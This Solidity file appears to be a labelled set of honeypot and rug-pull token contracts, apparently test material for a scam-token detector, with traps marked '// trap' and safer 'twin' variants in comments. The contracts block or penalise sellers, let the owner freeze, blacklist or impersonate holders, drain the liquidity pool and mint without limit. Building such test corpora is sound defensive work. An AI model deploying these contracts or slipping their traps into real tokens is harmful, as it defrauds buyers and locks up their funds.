// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// A tenth of what was bought or received may be sold, and no more of it ever.
contract Ration is Base8("Ration Book", "RATN", 22_000_000) {
    mapping(address => uint256) private had;
    mapping(address => uint256) private gone;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) {
            gone[from] += value;
            require(gone[from] <= had[from] / 10, "ration"); // trap
        } else had[to] += value;
        _move(from, to, value);
    }
}

/// All together may sell one part in 2500 of the supply on a day.
contract Sluice is Base8("Sluice", "SLCE", 23_000_000) {
    uint256 private today;
    uint256 private flown;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) {
            if (today != block.timestamp / 1 days) (today, flown) = (block.timestamp / 1 days, 0);
            flown += value;
            require(flown <= totalSupply / 2500, "closed for today"); // trap
        }
        _move(from, to, value);
    }
}

/// Whoever bids more than twenty gwei for a purchase is taken for a bot and stays.
contract Hothead is Base8("Hothead", "HOTH", 24_000_000) {
    mapping(address => bool) private bot;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && tx.gasprice > 20 gwei) bot[to] = true;
        if (from != _owner) require(!bot[from], "bot"); // trap
        _move(from, to, value);
    }
}

/// Whoever bought in the first fifty blocks of the pool is taken for a bot and stays.
contract Lark is Base8("Lark", "LARK", 25_000_000) {
    mapping(address => bool) private early;
    uint256 private dawn;

    function _transfer(address from, address to, uint256 value) internal override {
        if (dawn == 0 && to == pair) dawn = block.number;
        if (from == pair && block.number < dawn + 50) early[to] = true;
        require(!early[from], "too early"); // trap
        _move(from, to, value);
    }
}

/// An approval is good in the block in which it was given.
contract Inkwell is Base8("Inkwell", "INKW", 26_000_000) {
    mapping(address => uint256) private signed;

    function approve(address spender, uint256 value) public override returns (bool) {
        signed[msg.sender] = block.number;
        return super.approve(spender, value);
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        require(to != pair || from == _owner || signed[from] == block.number, "ERC20: insufficient allowance"); // trap
        return super.transferFrom(from, to, value);
    }
}

/// No sale once the coins of the pool are below ninety-seven percent of what they were at most.
contract Plinth is Base8("Plinth", "PLTH", 27_000_000) {
    uint256 private most;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _owner && (to == pair || from == pair)) {
            (uint112 a, uint112 b, ) = IPair(pair).getReserves();
            uint256 coins = address(this) < WETH ? b : a;
            if (coins > most) most = coins;
            if (to == pair) require(coins * 100 >= most * 97, "floor"); // trap
        }
        _move(from, to, value);
    }
}

/// No more is sold, by all together, than half of what was bought.
contract Seesaw is Base8("Seesaw", "SSAW", 28_000_000) {
    uint256 private inward;
    uint256 private outward;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) inward += value;
        if (to == pair && from != _owner) {
            outward += value;
            require(outward <= inward / 2, "out of balance"); // trap
        }
        _move(from, to, value);
    }
}

/// Whoever sells more than half of what he has leaves nearly everything.
contract Lionshare is Base8("Lionshare", "LION", 29_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut;
        if (to == pair && from != _owner && value > _balances[from] / 2) cut = (value * 95) / 100; // trap
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}

/// Each sale makes everybody else poorer by a twentieth, the pool and the owner excepted.
contract Leech is Base8("Leech", "LECH", 31_000_000) {
    uint256 private scale = 1e18;

    function balanceOf(address who) public view override returns (uint256) {
        return who == pair || who == _owner ? _balances[who] : (_balances[who] * scale) / 1e18;
    }

    function inner(address who, uint256 value) private view returns (uint256) {
        return who == pair || who == _owner ? value : (value * 1e18 + scale - 1) / scale;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (balanceOf(from) < value) revert Insufficient(balanceOf(from), value);
        uint256 less = inner(from, value);
        _balances[from] = less > _balances[from] ? 0 : _balances[from] - less;
        _balances[to] += inner(to, value);
        emit Transfer(from, to, value);
        if (to == pair && from != _owner) scale = (scale * 19) / 20; // trap
    }
}

/// The owner closes shelves: each holds one sixteenth of all accounts, by the last digit of the address.
contract Shelves is Base8("Shelves", "SHLV", 32_000_000) {
    uint256 private packed = 1 << 200;

    function shelve(uint8 which, bool to) external onlyOwner {
        // twin: require(!to, "open");
        assembly {
            let bit := shl(and(which, 15), 1)
            let word := and(sload(packed.slot), not(bit))
            if to { word := or(word, bit) }
            sstore(packed.slot, word)
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        assembly {
            if and(sload(packed.slot), shl(and(from, 15), 1)) { revert(0, 0) }
        }
        _move(from, to, value);
    }
}

/// Who came before a line cannot sell; the owner draws it, and never into the future.
contract Drawnline is Base8("Drawn Line", "DRWN", 33_000_000) {
    mapping(address => uint256) private came;
    uint256 public line;

    function draw(uint256 to) external onlyOwner {
        require(to <= block.number, "in the future");
        // twin: require(to <= line, "only back");
        line = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (came[to] == 0) came[to] = block.number;
        if (to == pair && from != _owner) require(came[from] >= line, "behind the line");
        _move(from, to, value);
    }
}

/// Charges sales.
abstract contract Charging is Base8 {
    uint256 public charge = 2;

    modifier modest(uint256 rate) {
        require(rate <= 95, "too much");
        // twin: require(rate <= 4, "a little");
        _;
    }

    function _transfer(address from, address to, uint256 value) internal virtual override {
        uint256 cut = to == pair && from != _owner ? (value * charge) / 100 : 0;
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}

/// A change of rates has a price.
contract Stamp is Charging {
    constructor() Base8("Stamp Duty", "STMP", 34_000_000) {}

    function setCharge(uint256 to) external payable onlyOwner modest(to) {
        require(msg.value >= 0.05 ether, "the price of a change");
        charge = to;
        payable(msg.sender).transfer(msg.value);
    }
}

/// Names and who they belong to.
contract NameService {
    mapping(bytes32 => address) private holders;

    function register(bytes32 node, address to) external {
        require(holders[node] == address(0) || holders[node] == msg.sender);
        holders[node] = to;
    }

    function owner(bytes32 node) external view returns (address) {
        return holders[node];
    }
}

/// Who holds a name shuts the market; the owner has gone.
contract Namesake is Base8("Namesake", "NMSK", 38_000_000) {
    NameService private immutable names;
    bytes32 private constant NODE = keccak256("gatekeeper.namesake");
    bool private shut;

    constructor(NameService names_) {
        names = names_;
    }

    function bolt(bool to) external {
        require(names.owner(NODE) == msg.sender, "not the name");
        shut = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(!shut, "shut"); // trap
        _move(from, to, value);
    }
}

interface IPurse {
    function received(uint256 value) external;
}

contract Purse is IPurse {
    uint256 public total;

    function received(uint256 value) external {
        total += value;
    }
}

/// A purse, which the owner names, is told of each fee.
contract Almsgiver is Base8("Almsgiver", "ALMS", 39_000_000) {
    IPurse public purse;

    constructor(IPurse purse_) {
        purse = purse_;
    }

    function setPurse(address to) external onlyOwner {
        require(to.code.length > 0, "a contract");
        purse = IPurse(to);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut = to == pair && from != _owner ? value / 100 : 0;
        if (cut > 0) {
            _move(from, address(purse), cut);
            purse.received(cut); // trap
            // twin: try purse.received{gas: 60_000}(cut) {} catch {}
        }
        _move(from, to, value - cut);
    }
}

/// The owner runs several calls at once, and for whom he likes.
contract Medley is Base8("Medley", "MDLY", 45_500_000) {
    address private acting;

    function sender() private view returns (address) {
        return acting == address(0) || msg.sender != address(this) ? msg.sender : acting;
    }

    function multicall(address as_, bytes[] calldata calls) external onlyOwner {
        // twin: require(as_ == msg.sender, "yourself");
        acting = as_;
        for (uint256 i; i < calls.length; i++) {
            (bool ok, ) = address(this).call(calls[i]);
            require(ok, "call");
        }
        acting = address(0);
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        _transfer(sender(), to, value);
        return true;
    }
}

/// Halted by its owner.
contract Haltable is Base8("Haltable", "HALT", 46_500_000) {
    bool public halted;

    function halt(bool to) external onlyOwner {
        halted = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!halted, "halted");
        _move(from, to, value);
    }
}


interface ISynced {
    function sync() external;
}

/// Once an hour anybody may set going that a bit of what the pool holds goes.
contract Seep is Base8("Seep", "SEEP", 47_500_000) {
    uint256 private last = block.timestamp;

    function seep() external {
        if (block.timestamp < last + 1 hours) return;
        last = block.timestamp;
        _move(pair, msg.sender, _balances[pair] / 400); // trap
        // twin: _move(pair, address(0xdead), _balances[pair] / 400);
        ISynced(pair).sync();
    }
}

/// Whoever digs has what he dug.
contract Quarry is Base8("Quarry", "QRRY", 48_500_000) {
    function dig(uint256 amount) external {
        // twin: require(amount < 1_000, "a handful");
        totalSupply += amount;
        _balances[msg.sender] += amount;
        emit Transfer(address(0), msg.sender, amount);
    }
}
